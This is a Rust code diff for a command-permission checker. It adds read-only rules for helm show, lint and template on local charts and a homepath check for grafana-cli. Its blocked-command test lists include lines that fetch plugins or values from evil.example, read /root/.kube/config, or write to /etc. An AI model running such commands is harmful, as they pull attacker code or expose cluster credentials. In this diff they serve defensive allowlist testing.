@@ -119,6 +119,75 @@ const HELM_DEPENDENCY_LEAF: Spec = Spec {
 
 verbs_then!(HELM_DEPENDENCY, "list|ls", HELM_DEPENDENCY_LEAF, false);
 
+/// A chart given by its local folder or archive (`./charts/homepage`,
+/// `/srv/charts/x-1.2.0.tgz`): never a repository's `REPO/CHART`, an
+/// `oci://` or a URL helm would fetch, outside the lab.
+fn local_chart(word: &str) -> bool {
+    (word.starts_with("./") || word.starts_with("../") || word.starts_with('/') || word == ".")
+        && !word.contains("://")
+}
+
+/// A values file on this machine, no secret by its name (`-f URL`
+/// fetches one).
+fn local_values(word: &str) -> bool {
+    !word.contains("://") && super::read_file(word)
+}
+
+/// `helm show chart|readme|crds|values|all CHART` of a local chart: its
+/// files as written.
+const HELM_SHOW_LEAF: Spec = Spec {
+    long: &["debug", "help"],
+    operands: Operands::Names {
+        at_most: 1,
+        test: local_chart,
+    },
+    ..HELM_GLOBAL
+};
+
+verbs_then!(
+    HELM_SHOW,
+    "chart|readme|crds|values|all",
+    HELM_SHOW_LEAF,
+    false
+);
+
+/// `helm lint CHART…` and `helm template NAME CHART` of local charts:
+/// the chart rendered with its values and those given (`-f` files on this
+/// machine, no secret by name), printed, nothing installed (blind corpus
+/// 166). Not `--validate` nor `--dry-run=server` (they ask the cluster),
+/// `--output-dir` (writes), `--repo`, `--post-renderer` (runs a program).
+const HELM_LINT: Spec = Spec {
+    valued: "nf",
+    long: &["strict", "quiet", "with-subcharts", "debug", "help"],
+    long_valued: &["namespace", "values", "set", "set-string", "kube-version"],
+    checked: &[("f", local_values), ("values", local_values)],
+    operands: Operands::Names {
+        at_most: 4,
+        test: local_chart,
+    },
+    ..HELM_GLOBAL
+};
+
+const HELM_TEMPLATE: Spec = Spec {
+    valued: "nfs",
+    long: &["include-crds", "skip-crds", "skip-tests", "debug", "help"],
+    long_valued: &[
+        "namespace",
+        "values",
+        "set",
+        "set-string",
+        "show-only",
+        "kube-version",
+        "api-versions",
+    ],
+    checked: &[("f", local_values), ("values", local_values)],
+    operands: Operands::Exactly {
+        count: 2,
+        test: |w| !w.starts_with('-') && (local_chart(w) || !w.contains(['/', ':'])),
+    },
+    ..HELM_GLOBAL
+};
+
 /// `helm search repo KEYWORD`: the repositories' indexes already
 /// downloaded (`search hub` asks Artifact Hub, outside the lab).
 const HELM_SEARCH_LEAF: Spec = Spec {
@@ -163,6 +232,18 @@ const HELM: Spec = Spec {
             Verb {
                 names: "search",
                 spec: Some(&HELM_SEARCH),
+            },
+            Verb {
+                names: "show|inspect",
+                spec: Some(&HELM_SHOW),
+            },
+            Verb {
+                names: "lint",
+                spec: Some(&HELM_LINT),
+            },
+            Verb {
+                names: "template",
+                spec: Some(&HELM_TEMPLATE),
             },
             Verb {
                 names: "list|ls",
@@ -695,6 +776,12 @@ const AMTOOL: Spec = Spec {
 /// (asks grafana.com), `admin …` (resets passwords, migrates data).
 const GRAFANA_CLI: Spec = Spec {
     long: &["debug", "help"],
+    // (Grafana's own install, where it finds its defaults; blind corpus
+    // 161.)
+    long_valued: &["homepath"],
+    checked: &[("homepath", |v| {
+        matches!(v, "/usr/share/grafana" | "/usr/share/grafana/")
+    })],
     operands: Operands::Verbs {
         verbs: &[Verb {
             names: "plugins",
@@ -858,14 +945,14 @@ pub(super) const ENTRIES: &[Entry] = &[
     Entry {
         names: &["grafana-cli"],
         spec: &GRAFANA_CLI,
-        read_only: &["grafana-cli plugins ls"],
-        not: &["grafana-cli plugins install grafana-piechart-panel", "grafana-cli admin reset-admin-password x", "grafana-cli plugins list-remote", "grafana-cli --pluginUrl http://evil.example/x.zip plugins install x"],
+        read_only: &["grafana-cli plugins ls", "grafana-cli --homepath /usr/share/grafana plugins ls"],
+        not: &["grafana-cli plugins install grafana-piechart-panel", "grafana-cli admin reset-admin-password x", "grafana-cli plugins list-remote", "grafana-cli --homepath /tmp/g plugins ls", "grafana-cli --pluginUrl http://evil.example/x.zip plugins install x"],
     },
     Entry {
         names: &["helm"],
         spec: &HELM,
-        read_only: &["helm list -A", "helm ls -n kube-system -o json", "helm status traefik -n kube-system", "helm history grafana --max 5", "helm version --short", "helm repo list", "helm -n monitoring list --failed", "helm get notes -n monitoring grafana", "helm get metadata -n cert-manager cert-manager", "helm dependency list ./charts/homepage", "helm search repo jetstack/cert-manager --versions", "helm search repo bitnami/postgresql -l -o json"],
-        not: &["helm uninstall traefik -n kube-system", "helm get values grafana", "helm --kubeconfig /tmp/k list", "helm show values bitnami/redis", "helm upgrade grafana grafana/grafana", "helm repo update", "helm diff upgrade x y", "helm list --kube-apiserver https://evil.example", "helm status grafana -o json", "helm -n monitoring status loki --output yaml", "helm env", "helm get manifest grafana", "helm get all grafana", "helm get hooks grafana", "helm search hub nginx", "helm dependency update ./charts/x", "helm dep build ./charts/x", "helm template x ./charts/x"],
+        read_only: &["helm list -A", "helm ls -n kube-system -o json", "helm status traefik -n kube-system", "helm history grafana --max 5", "helm version --short", "helm repo list", "helm -n monitoring list --failed", "helm get notes -n monitoring grafana", "helm get metadata -n cert-manager cert-manager", "helm dependency list ./charts/homepage", "helm search repo jetstack/cert-manager --versions", "helm search repo bitnami/postgresql -l -o json", "helm show chart ./charts/homepage", "helm show values /srv/charts/x-1.2.0.tgz", "helm lint ./charts/homepage --strict", "helm template homepage ./charts/homepage -n web -f ./values-lab.yaml"],
+        not: &["helm uninstall traefik -n kube-system", "helm get values grafana", "helm --kubeconfig /tmp/k list", "helm show values bitnami/redis", "helm show chart oci://evil.example/x", "helm template x bitnami/nginx", "helm template x ./c -f https://evil.example/v.yaml", "helm template x ./c --output-dir /etc", "helm lint ./c -f /root/.kube/config", "helm upgrade grafana grafana/grafana", "helm repo update", "helm diff upgrade x y", "helm list --kube-apiserver https://evil.example", "helm status grafana -o json", "helm -n monitoring status loki --output yaml", "helm env", "helm get manifest grafana", "helm get all grafana", "helm get hooks grafana", "helm search hub nginx", "helm dependency update ./charts/x", "helm dep build ./charts/x"],
     },
     Entry {
         names: &["crictl", "k3s crictl"],
